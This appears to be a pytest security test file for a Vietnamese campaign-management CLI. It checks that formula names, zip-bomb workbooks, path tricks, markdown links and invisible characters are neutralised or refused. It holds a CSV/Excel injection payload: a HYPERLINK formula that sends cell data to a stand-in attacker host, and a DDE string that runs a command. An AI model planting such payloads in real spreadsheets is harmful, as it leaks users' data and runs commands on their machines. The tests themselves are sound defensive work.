"""What an attacker or a careless user puts in names, texts and files, and what thidua makes of
it: a name typed as a formula stays text in every workbook and CSV thidua writes; an oversized
workbook is refused before it is read; an import cannot lock its own admin out."""

import csv
import io
from dataclasses import dataclass
from pathlib import Path

from openpyxl import load_workbook
from sqlmodel import select
from typer.testing import CliRunner

from documents.tables import csv_files, workbook
from models import Unit
from rules.stages import Stage
from tests import test_cli
from tests.test_cli import advance, invoke
from tests.test_forms import get_form
from thidua.db import session_scope

runner, templates, campaign = test_cli.runner, test_cli.templates, test_cli.campaign

HYPERLINK = '=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")'
DDE = "=cmd|' /C calc'!A0"


def formula_cells(path: Path) -> dict[str, object]:
    """Every cell of the workbook that Excel would compute: 'Sheet!A1' -> its formula."""
    book = load_workbook(path)
    return {
        f"{ws.title}!{c.coordinate}": c.value
        for ws in book.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    }


def rename(code: str, name: str) -> None:
    with session_scope() as s:
        unit = s.exec(select(Unit).where(Unit.code == code)).one()
        unit.name = name
        s.add(unit)


def test_a_unit_named_as_a_formula_is_text_on_the_ballot_form(
    runner: CliRunner, campaign: int, tmp_path: Path
) -> None:
    advance(campaign, Stage.VOTE)
    rename("PTC", HYPERLINK)
    path = tmp_path / "phieu.xlsx"
    get_form(runner, "ballot", campaign, "canbo.ptm", path, "--xlsx")
    assert formula_cells(path) == {}
    ws = load_workbook(path)["Phiếu bầu"]
    shown = [c for row in ws.iter_rows() for c in row if c.value == HYPERLINK]
    assert shown and all(c.data_type == "s" and c.quotePrefix for c in shown)


def test_the_score_form_computes_only_its_own_totals(
    runner: CliRunner, campaign: int, tmp_path: Path
) -> None:
    rename("PTM", DDE)
    path = tmp_path / "tu-cham.xlsx"
    get_form(runner, "self-assessment", campaign, "canbo.ptm", path, "--xlsx")
    formulas = formula_cells(path)
    assert sorted(str(v)[:5] for v in formulas.values()) == ["=MAX(", "=SUM("]


@dataclass
class T:
    key: str
    title: str
    headers: tuple[str, ...]
    rows: list[tuple[object, ...]]


def test_result_tables_write_names_as_text_in_excel_and_csv(tmp_path: Path) -> None:
    from decimal import Decimal

    table = T("ket_qua", "Kết quả", ("Đơn vị", "Chênh lệch"), [(DDE, Decimal("-3.5")), ("+1", 2)])
    path = tmp_path / "ket-qua.xlsx"
    path.write_bytes(workbook([table], title="x"))
    assert formula_cells(path) == {}
    assert load_workbook(path)["Kết quả"]["A2"].value == DDE
    text = csv_files([table])["ket_qua.csv"].decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text))) == [
        ["Đơn vị", "Chênh lệch"],
        ["'" + DDE, "-3.5"],  # a negative number stays a number
        ["'+1", "2"],
    ]


def _org_with_formulas(runner: CliRunner, tmp_path: Path) -> dict[str, object]:
    from tests.test_org import imported, write_yaml
    from thidua.sample import sample_org

    assert invoke(runner, "init").exit_code == 0
    data = sample_org()
    data["units"][0]["name"] = DDE
    data["people"][0]["full_name"] = HYPERLINK
    imported(runner, write_yaml(tmp_path / "org.yaml", data))
    return data


def test_an_exported_organisation_keeps_formula_names_as_text(
    runner: CliRunner, database_url: str, tmp_path: Path
) -> None:
    from tests.test_org import imported, with_secrets

    data = _org_with_formulas(runner, tmp_path)
    with_secrets()
    book = tmp_path / "to-chuc.xlsx"
    assert invoke(runner, "org", "export", "--xlsx", book, "--actor", "quantri").exit_code == 0
    assert formula_cells(book) == {}
    wb = load_workbook(book)
    assert wb["units"]["B2"].value == DDE and wb["units"]["B2"].quotePrefix
    # Read back, the names are what was typed: importing the export changes nothing.
    assert "Không có gì thay đổi" in imported(runner, book, "--actor", "quantri")
    assert data["people"][0]["username"] == "canbo.ptm"


def test_the_secrets_file_writes_names_as_text_and_refuses_path_tricks(
    runner: CliRunner, database_url: str, tmp_path: Path
) -> None:
    from models import Actor
    from tests.test_cli import counts, secret_for
    from thidua.services.auth import set_secret

    _org_with_formulas(runner, tmp_path)
    with session_scope() as s:
        admin = s.exec(select(Actor).where(Actor.username == "quantri")).one()
        set_secret(s, admin, secret_for("quantri"))
    bulk = ["actor", "secret", "--all-missing", "--by", "quantri", "--out"]
    existing = tmp_path / "co-san.csv"
    existing.write_text("giữ nguyên", encoding="utf-8")
    folder = tmp_path / "thu-muc"
    folder.mkdir()
    link = tmp_path / "lien-ket.csv"
    link.symlink_to(tmp_path / "dich.csv")  # dangling: following it would create the target
    before = counts()
    for path in (existing, folder, link):
        result = runner.invoke(
            test_cli.app, [*bulk, str(path)], env={"THIDUA_SECRET": secret_for("quantri")}
        )
        assert result.exit_code == 2, (path, result.output)
        assert "trường out" in test_cli.flat(result.stderr)
        assert counts() == before
    with session_scope() as s:  # no secret issued either: only the admin's own
        assert [a.username for a in s.exec(select(Actor)).all() if a.secret_hash] == ["quantri"]
    assert existing.read_text(encoding="utf-8") == "giữ nguyên"
    assert not (tmp_path / "dich.csv").exists() and list(folder.iterdir()) == []
    out = tmp_path / "ma.csv"
    result = runner.invoke(
        test_cli.app, [*bulk, str(out)], env={"THIDUA_SECRET": secret_for("quantri")}
    )
    assert result.exit_code == 0, result.output
    rows = {r["username"]: r for r in csv.DictReader(out.open(encoding="utf-8"))}
    assert rows["canbo.ptm"]["full_name"] == "'" + HYPERLINK
    assert all(r["secret"] not in result.output for r in rows.values())


def _padded_units_book(path: Path, rows: int, cell: str = "x") -> Path:
    """A real workbook whose `units` sheet is rewritten with `rows` identical lines: a few
    kilobytes zipped, as many lines as the attacker likes unzipped."""
    import zipfile

    from openpyxl import Workbook

    book = Workbook()
    book.active.title = "units"
    book.active.append(["code", "name"])
    book.save(path)
    with zipfile.ZipFile(path) as z:
        parts = {i.filename: z.read(i.filename) for i in z.infolist()}
    sheet = "xl/worksheets/sheet1.xml"
    xml = parts[sheet].decode()
    line = f'<row><c t="inlineStr"><is><t>{cell}</t></is></c></row>'
    parts[sheet] = xml.replace("</sheetData>", line * rows + "</sheetData>").encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return path


def test_an_org_workbook_that_unzips_too_big_is_refused_unread(
    runner: CliRunner, database_url: str, tmp_path: Path
) -> None:
    from tests.test_cli import counts, flat

    assert invoke(runner, "init").exit_code == 0
    bomb = _padded_units_book(tmp_path / "bom.xlsx", 500_000)
    assert bomb.stat().st_size < 1024 * 1024
    before = counts()
    result = invoke(runner, "org", "import", bomb, "--dry-run")
    assert result.exit_code == 2, result.output
    assert "giải nén ra quá lớn" in flat(result.stderr) and "trường file" in flat(result.stderr)
    assert counts() == before
    # Under the unzipped cap but longer than any organisation: refused at the line cap.
    tall = _padded_units_book(tmp_path / "dai.xlsx", 25_000)
    result = invoke(runner, "org", "import", tall, "--dry-run")
    assert result.exit_code == 2, result.output
    assert "trang units: quá 20000 dòng" in flat(result.stderr)
    assert counts() == before


def test_a_workbook_claiming_a_stale_size_is_read_to_its_last_row(
    runner: CliRunner, database_url: str, tmp_path: Path
) -> None:
    """Tools other than Excel may write a sheet's size wrong: every row is read all the same,
    not the people past the claimed last row retired."""
    import re
    import zipfile

    from tests.test_org import imported, with_secrets

    _org_with_formulas(runner, tmp_path)
    with_secrets()
    book = tmp_path / "to-chuc.xlsx"
    assert invoke(runner, "org", "export", "--xlsx", book, "--actor", "quantri").exit_code == 0
    with zipfile.ZipFile(book) as z:
        parts = {i.filename: z.read(i.filename) for i in z.infolist()}
    for name, data in parts.items():
        if name.startswith("xl/worksheets/"):
            parts[name] = re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:B2"/>', data)
    with zipfile.ZipFile(book, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    assert "Không có gì thay đổi" in imported(runner, book, "--actor", "quantri")


def test_the_importing_admin_cannot_demote_or_retire_themselves(
    runner: CliRunner, database_url: str, tmp_path: Path
) -> None:
    """A file that hands the organisation to a new admin (who has no secret yet) and makes the
    one importing it an officer would leave no one able to act as admin: refused, row named."""
    import copy

    from tests.test_cli import counts, flat
    from tests.test_org import imported, with_secrets, write_yaml
    from thidua.sample import sample_org

    assert invoke(runner, "init").exit_code == 0
    data = sample_org()
    imported(runner, write_yaml(tmp_path / "org.yaml", data))
    with_secrets()
    row = next(i for i, p in enumerate(data["people"]) if p["username"] == "quantri")
    new_admin = {"username": "quantri.moi", "full_name": "Trần Văn Mới", "role": "admin"}
    for change, column in (({"role": "unit_officer", "unit": "PTM"}, "role"),
                           ({"retired_from": 2020}, "retired_from")):  # fmt: skip
        edited = copy.deepcopy(data)
        edited["people"][row].update(change)
        edited["people"].append(new_admin)
        path = write_yaml(tmp_path / "ban-giao.yaml", edited)
        before = counts()
        result = invoke(runner, "org", "import", path, "--actor", "quantri")
        assert result.exit_code == 2, result.output
        assert flat(result.stderr) == (
            f"Lỗi: people[{row}].{column}: 'quantri' là người nhập tệp: không tự bỏ quyền quản "
            "trị hay tự thôi hoạt động được; để một quản trị viên khác làm việc này"
        )
        assert counts() == before
    # Another admin may do it, once the new one is there.
    edited["people"][row].pop("retired_from")
    imported(runner, write_yaml(tmp_path / "them.yaml", edited), "--actor", "quantri")


def test_an_edited_hidden_map_is_refused_with_a_message(
    runner: CliRunner, campaign: int, tmp_path: Path
) -> None:
    from tests.test_cli import counts, flat

    advance(campaign, Stage.VOTE)
    path = tmp_path / "phieu.xlsx"
    get_form(runner, "ballot", campaign, "canbo.ptm", path, "--xlsx")
    args = ["submit", "ballot", "--campaign", campaign, "--actor", "canbo.ptm", "--file", path]
    for field, ref in (
        ("choice:leader", "H9"),  # a choice row cut short
        ("reviewee:x", ""),
        ("ballot.titles.PTC", "A1:XFD1048576"),  # a range: a billion cells to build
        ("ballot.titles.PTC", "=A1"),
    ):
        wb = load_workbook(path)
        ws = wb["_mau"]
        ws["A5"], ws["C5"] = field, ref
        edited = tmp_path / "sua.xlsx"
        wb.save(edited)
        before = counts()
        result = invoke(runner, *args[:-1], edited)
        assert result.exit_code == 2, (field, ref, result.output)
        assert flat(result.stderr) == (
            "Lỗi: trường file: 'sua.xlsx': trang _mau của mẫu bị sửa (dòng 5); tải mẫu mới"
        )
        assert counts() == before


EXPORT = ["org", "export", "--actor", "quantri"]


def test_an_output_path_that_cannot_be_written_is_a_message(
    runner: CliRunner, database_url: str, tmp_path: Path
) -> None:
    from tests.test_cli import flat
    from tests.test_org import with_secrets

    assert invoke(runner, "init", "--sample").exit_code == 0
    with_secrets()  # the export is an admin's
    folder = tmp_path / "thu-muc"
    folder.mkdir()
    missing = tmp_path / "khong-co" / "to-chuc.xlsx"
    cases = [
        ([*EXPORT, "--xlsx", missing], "trường xlsx: không ghi được tệp"),
        ([*EXPORT, "--xlsx", folder / ".." / "thu-muc"], "trường xlsx: tệp phải có đuôi"),
        ([*EXPORT, "--yaml", tmp_path / "to-chuc.xlsx"], "trường yaml: tệp phải có đuôi"),
        (["org", "template", "--xlsx", tmp_path / "mau.yaml"], "trường xlsx: tệp phải có đuôi"),
        (["org", "template", "--xlsx", tmp_path / "d.xlsx"], "trường xlsx: '"),
    ]
    (tmp_path / "d.xlsx").mkdir()
    for args, message in cases:
        result = invoke(runner, *args)
        assert result.exit_code == 2, (args, result.output)
        assert message in flat(result.stderr), (args, result.stderr)
    written = {p.name for p in tmp_path.iterdir() if p.suffix in (".xlsx", ".yaml")}
    assert written == {"d.xlsx"} and not missing.parent.exists()
    assert list(folder.iterdir()) == [] and list((tmp_path / "d.xlsx").iterdir()) == []


def test_a_form_written_into_a_missing_folder_is_a_message(
    runner: CliRunner, campaign: int, tmp_path: Path
) -> None:
    from tests.test_cli import flat

    args = ["form", "self-assessment", "--campaign", campaign, "--actor", "canbo.ptm", "--out"]
    for target, extra in (
        (tmp_path / "khong-co" / "mau.xlsx", "--xlsx"),
        (tmp_path / "khong-co" / "mau.yaml", "--yaml"),
    ):
        result = invoke(runner, *args, target, extra)
        assert result.exit_code == 2, result.output
        assert "trường out: không ghi được tệp" in flat(result.stderr)
    assert not (tmp_path / "khong-co").exists()


def test_a_refused_answer_shown_on_the_next_form_cannot_bring_a_link() -> None:
    """Anyone can answer a form through Prefect's API; why it was refused quotes what they
    typed, and the next form shows it to the leader and the directorate: as text only."""
    from tests.unit.test_documents import _form_directorate, _form_leader
    from thidua.templating import render

    typed = "[Bấm để xác nhận](https://ke-gian.example) ![x](https://ke-gian.example/t.png)"
    outcome = f"Bị từ chối: không có đơn vị '{typed}'\n\n# Tiêu đề giả"
    for name, sample in (
        ("form_leader.md.j2", _form_leader),
        ("form_directorate.md.j2", _form_directorate),
    ):
        text = render(name, **{**sample(), "last_outcome": outcome})
        [line] = [x for x in text.splitlines() if x.startswith("> Lần trả lời trước")]
        assert line == (
            "> Lần trả lời trước: Bị từ chối: không có đơn vị '\\[Bấm để xác nhận\\]"
            "\\(https://ke-gian.example\\) \\!\\[x\\]\\(https://ke-gian.example/t.png\\)' "
            "\\# Tiêu đề giả"
        )


def test_invisible_characters_in_names_are_refused_naming_the_field(
    runner: CliRunner, database_url: str, tmp_path: Path
) -> None:
    """A zero-width space or a direction mark makes a second 'Phòng Tham mưu' look like the
    first on every list and document: refused, every field named, nothing written."""
    from tests.test_cli import counts
    from tests.test_org import write_yaml
    from thidua.sample import sample_org

    assert invoke(runner, "init").exit_code == 0
    data = sample_org()
    data["units"][1]["name"] = data["units"][0]["name"].replace(" ", " \u200b", 1)
    data["people"][0]["full_name"] = "\u200fNguyễn Văn A"
    data["people"][1]["position"] = "Cán\ufeff bộ"
    before = counts()
    result = invoke(runner, "org", "import", write_yaml(tmp_path / "org.yaml", data))
    assert result.exit_code == 2, result.output
    # (and what the refused unit leaves unknown: its memberships, its people)
    assert {
        "  - units[1].name: chứa ký tự điều khiển không được phép (U+200B)",
        "  - people[0].full_name: chứa ký tự điều khiển không được phép (U+200F)",
        "  - people[1].position: chứa ký tự điều khiển không được phép (U+FEFF)",
    } <= set(result.stderr.splitlines())
    assert counts() == before


def test_an_explanation_written_on_windows_is_taken_with_its_lines(
    runner: CliRunner, campaign: int, tmp_path: Path
) -> None:
    """Notepad ends lines with CR LF; the carriage returns are line ends, not a reason to
    refuse the explanation."""
    from models import Explanation
    from simulation.participants import Script, act

    advance(campaign, Stage.PEER_REVIEW)
    with session_scope() as s:
        act(s, campaign, Script(late_unit=None, returned_unit=None))
    f = tmp_path / "giai-trinh.txt"
    f.write_bytes("Dòng một;\r\ndòng hai.\r\n".encode())
    args = ["submit", "explanation", "--campaign", campaign, "--actor", "canbo.ttr"]
    ok = invoke(runner, *args, "--file", f)
    assert ok.exit_code == 0, ok.output
    with session_scope() as s:
        assert [e.text for e in s.exec(select(Explanation)).all()] == ["Dòng một;\ndòng hai."]


def test_names_that_differ_only_in_case_are_one_name(
    runner: CliRunner, database_url: str, tmp_path: Path
) -> None:
    """`Quantri` beside `quantri` is a second account a reader takes for the admin's."""
    from tests.test_cli import counts
    from tests.test_org import write_yaml
    from thidua.sample import sample_org

    assert invoke(runner, "init").exit_code == 0
    data = sample_org()
    data["people"].append({"username": "Quantri", "full_name": "Quản trị", "role": "admin"})
    data["units"].append({"code": data["units"][0]["code"].lower(), "name": "Phòng khác"})
    before = counts()
    result = invoke(runner, "org", "import", write_yaml(tmp_path / "org.yaml", data))
    assert result.exit_code == 2, result.output
    unit = data["units"][0]["code"]
    assert result.stderr.splitlines()[1:] == [
        f"  - units[{len(data['units']) - 1}].code: mã đơn vị '{unit.lower()}' trùng với "
        f"units[0].code (như '{unit}': không phân biệt chữ hoa, chữ thường)",
        f"  - people[{len(data['people']) - 1}].username: tên đăng nhập 'Quantri' trùng với "
        f"people[{next(i for i, p in enumerate(data['people']) if p['username'] == 'quantri')}]"
        ".username (như 'quantri': không phân biệt chữ hoa, chữ thường)",
    ]
    assert counts() == before


def test_a_date_typed_for_a_year_is_shown_as_typed(
    runner: CliRunner, database_url: str, tmp_path: Path
) -> None:
    from tests.test_org import write_yaml
    from thidua.sample import sample_org

    assert invoke(runner, "init").exit_code == 0
    data = sample_org()
    path = write_yaml(tmp_path / "org.yaml", data)
    text = path.read_text(encoding="utf-8")
    path.write_text(
        text.replace("units:\n", "units:\n- {code: MOI, name: Mới, retired_from: 2020-01-31}\n", 1),
        encoding="utf-8",
    )
    result = invoke(runner, "org", "import", path)
    assert result.exit_code == 2, result.output
    assert result.stderr == "Lỗi: units[0].retired_from: không phải số nguyên: 31/01/2020\n"


def test_a_text_pasted_from_windows_into_the_excel_form_keeps_its_lines(
    runner: CliRunner, campaign: int, tmp_path: Path
) -> None:
    from models import SelfAssessment
    from tests.test_cli import sheet
    from tests.test_forms import submit
    from tests.test_forms_xlsx import fill_scores

    path = tmp_path / "tu-cham.xlsx"
    get_form(runner, "self-assessment", campaign, "canbo.ptm", path, "--xlsx")
    wb = load_workbook(path)
    ws = wb["Tự chấm"]
    fill_scores(ws, {k: float(v) for k, v in sheet().items()})
    [cell] = [r[2] for r in ws.iter_rows() if r[1].value == "Thành tích nổi bật"]
    cell.value = "Hoàn thành 12 cuộc thanh tra;\r\nđược Bộ biểu dương."
    wb.save(path)
    submit(runner, "self-assessment", campaign, "canbo.ptm", path)
    with session_scope() as s:
        [sa] = s.exec(select(SelfAssessment)).all()
    assert sa.achievements == "Hoàn thành 12 cuộc thanh tra;\nđược Bộ biểu dương."


def test_fetching_a_form_again_never_wipes_the_one_being_filled(
    runner: CliRunner, campaign: int, tmp_path: Path
) -> None:
    from tests.test_cli import flat

    path = tmp_path / "tu-cham.yaml"
    get_form(runner, "self-assessment", campaign, "canbo.ptm", path)
    path.write_text(path.read_text(encoding="utf-8") + "# đang điền dở\n", encoding="utf-8")
    filled = path.read_bytes()
    args = ["form", "self-assessment", "--campaign", campaign, "--actor", "canbo.ptm", "--out"]
    for extra in ([], ["--xlsx"]):
        target = path if not extra else tmp_path / "tu-cham.xlsx"
        if extra:
            target.write_bytes(b"ban dang dien")
        result = invoke(runner, *args, target, *extra)
        assert result.exit_code == 2, result.output
        assert f"trường out: tệp '{target}' đã có" in flat(result.stderr)
    assert path.read_bytes() == filled
    assert (tmp_path / "tu-cham.xlsx").read_bytes() == b"ban dang dien"
